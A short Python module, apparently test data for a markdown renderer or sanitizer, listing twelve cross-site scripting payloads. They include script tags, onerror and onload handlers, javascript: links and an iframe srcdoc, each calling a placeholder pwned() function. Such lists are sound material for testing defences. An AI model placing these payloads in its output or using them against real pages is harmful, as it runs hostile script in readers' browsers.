"""A dozen ways for an answer in markdown to run code on the page that shows it."""

WAYS = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()></svg>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src='javascript:parent.pwned()'></iframe>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<video src=x onerror=pwned()></video>",
    "<!--><img src=x onerror=pwned()>-->",
    "```mermaid\n<img src=x onerror=pwned()>\n```",
    "[click](javascript:pwned())",
    "<a href='javascript:pwned()'>click</a>",
)
